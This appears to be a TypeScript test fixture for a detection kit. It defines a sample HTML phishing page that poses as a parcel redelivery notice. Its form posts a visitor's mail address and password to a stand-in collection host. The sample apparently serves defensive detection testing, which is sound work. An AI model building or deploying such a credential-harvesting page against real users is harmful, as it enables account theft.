import type { SampleFile } from '../kit/describe.ts'

/** A password form that submits elsewhere. */
export const sample: SampleFile = {
  filename: 'delivery-note.html',
  contentType: 'text/html',
  content: [
    '<!DOCTYPE html>',
    '<html><head><title>Example Parcel - confirm your delivery</title></head><body>',
    '<h1>Your parcel is waiting</h1>',
    '<p>Sign in with your mailbox to choose a new date.</p>',
    '<form method="post" action="https://collect.parcel-redelivery.test/p">',
    '<input name="mail" placeholder="Mail address"><input type="password" name="pass">',
    '<button>Confirm</button></form>',
    '</body></html>',
    '',
  ].join('\n'),
}
